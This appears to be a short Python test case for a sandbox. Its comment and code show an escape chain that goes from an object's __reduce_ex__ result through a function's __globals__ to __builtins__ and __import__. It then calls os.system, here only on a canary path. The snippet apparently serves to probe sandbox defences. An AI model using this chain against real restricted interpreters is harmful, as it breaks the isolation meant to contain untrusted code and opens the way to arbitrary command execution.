# reaches: __reduce_ex__ hands out a library function with globals
class A:
    pass
A().__reduce_ex__(2)[0].__globals__["__builtins__"]["__import__"]("os").system("/srv/canary")
